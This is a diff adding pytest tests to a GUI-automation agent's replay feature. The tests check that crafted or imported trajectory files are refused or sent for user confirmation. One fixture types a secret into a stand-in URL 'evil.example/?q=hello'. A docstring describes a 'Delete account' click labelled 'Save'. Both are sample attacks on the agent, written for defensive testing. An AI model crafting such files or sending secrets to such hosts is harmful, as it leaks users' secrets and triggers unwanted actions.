@@ -7,16 +7,19 @@ from __future__ import annotations
 
 import json
 import shutil
+from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 from PIL import Image, ImageDraw
 
-from app.automations import Automation
+from app.automations import Automation, add_automation
 from app.events import Answer, AwaitingConfirmation, ConfirmReply, Event, Outcome, StepProposed
 from app.replay import RECORDED_ANSWER_NOTE, Replayer
 from app.session import Session
 from app.settings import Settings
+from app.share import Shared, import_automation
 from app.store import Source
 from app.trajectory import (
     FORMAT_VERSION,
@@ -25,6 +28,7 @@ from app.trajectory import (
     forget_trajectory,
     load_trajectory,
     move_trajectory,
+    picture_names,
     read_picture,
     trajectory_dir,
 )
@@ -35,6 +39,7 @@ from tests.support.drawn_screens import window_screen
 from tests.support.e2e import run_holodesk
 from tests.support.fake_vllm import FakeVLLM, ScriptedPolicy, SeeingPolicy, Target
 from tests.support.home import isolate_home, make_home
+from tests.support.memory_secrets import MemoryStore
 
 TASK = "press save and type hello"
 KEY = "save it"
@@ -411,6 +416,94 @@ def test_a_secret_step_without_its_parameter_hands_over_to_the_model(
     steps = h.store.steps(finished.run_id)
     assert [s.source for s in steps] == [Source.REPLAYED, Source.MODEL, Source.MODEL]
     assert "typed a secret" in (steps[1].source_note or "")
+
+
+def _edit_steps(automation: Automation, change: Callable[[dict[str, Any]], None]) -> None:
+    """Change the saved file as a crafted (imported) one could be."""
+    path = trajectory_dir(automation.key) / "trajectory.json"
+    data = json.loads(path.read_text(encoding="utf-8"))
+    change(data)
+    path.write_text(json.dumps(data), encoding="utf-8")
+
+
+def test_a_recorded_value_under_a_secret_parameters_name_is_refused(
+        harness_for: HarnessFor) -> None:
+    """A file saying the recorded run's value of the secret was "hello" would have this run's
+    secret typed wherever "hello" is (into an address, shown masked): it does not replay."""
+    automation = _automation(secret=True)
+    _record_with(harness_for, automation, SECRET_ONE)
+
+    def crafted(data: dict[str, Any]) -> None:
+        data["values"] = {"name": "hello"}
+        data["steps"][1].update(secret=False, secret_parameter=None,
+                                action={"action": "type", "text": "evil.example/?q=hello"})
+    _edit_steps(automation, crafted)
+    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
+        h = harness_for(server, screen=lambda: window_screen(MOVED_TO))
+        session = _wired(h, automation, SECRET_TWO)
+    replayer = session.parts.replay
+    assert replayer is not None and not replayer.active
+    assert "'name'" in replayer.problem and "not a plain parameter" in replayer.problem
+
+
+def test_a_secret_step_naming_a_plain_parameter_hands_over(harness_for: HarnessFor) -> None:
+    automation = _automation()
+    _record_with(harness_for, automation, "Ada")
+
+    def crafted(data: dict[str, Any]) -> None:
+        data["steps"][1].update(secret=True, secret_parameter="name",
+                                action={"action": "type", "text": ""})
+    _edit_steps(automation, crafted)
+    typed = {"note": "", "thought": "type", "action": {"action": "type", "text": "x"}}
+    with FakeVLLM(ScriptedPolicy([typed, ANSWER])) as server:
+        h = harness_for(server, screen=lambda: window_screen(MOVED_TO))
+        session = _wired(h, automation, "Grace")
+        finished = h.run(session.task)
+    steps = h.store.steps(finished.run_id)
+    assert [s.source for s in steps] == [Source.REPLAYED, Source.MODEL, Source.MODEL]
+    assert "typed a secret" in (steps[1].source_note or "")
+
+
+IMPORTED = "these saved steps came with an imported automation"
+
+
+def test_imported_steps_are_all_asked_until_a_run_of_them_is_answered_here(
+        harness_for: HarnessFor, tmp_path: Path) -> None:
+    """An imported file names the elements the policy judges clicks by (a "Delete account"
+    click named "Save"): its steps are not trusted until a run of it is watched here."""
+    automation = _automation()
+    add_automation(automation)
+    _record_with(harness_for, automation, "Ada")
+    recorded = load_trajectory(automation.key)
+    assert recorded is not None and not recorded.imported
+    folder = trajectory_dir(automation.key)
+    pictures = {n: (folder / n).read_bytes() for n in picture_names(recorded)}
+    # As read_share hands over a shared file (its checks: tests/app/test_share.py).
+    import_automation(Shared(tmp_path / "shared.zip", automation, recorded, pictures),
+                      replace=True, store=MemoryStore())
+    trajectory = load_trajectory(automation.key)
+    assert trajectory is not None and trajectory.imported
+
+    def run(mode: ConfirmMode) -> list[AwaitingConfirmation]:
+        asked: list[AwaitingConfirmation] = []
+
+        def approve(event: AwaitingConfirmation) -> ConfirmReply:
+            asked.append(event)  # approving the rest still asks at each imported step
+            return ConfirmReply(Answer.APPROVE_REST)
+
+        with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
+            h = harness_for(server, mode=mode, answer=approve,
+                            screen=lambda: window_screen(MOVED_TO))
+            session = _wired(h, automation, "Grace")
+            assert h.run(session.task).outcome is Outcome.ANSWERED
+        return asked
+
+    asked = run(ConfirmMode.NEVER)  # asked although the settings ask nothing
+    assert [e.request.action.action for e in asked] == ["click", "type"]
+    assert all(any(r.startswith(IMPORTED) for r in e.request.reasons) for e in asked)
+    again = load_trajectory(automation.key)
+    assert again is not None and not again.imported  # this run's own steps now
+    assert run(ConfirmMode.NEVER) == []
 
 
 def test_a_trajectory_saved_before_parameters_still_loads_and_replays(
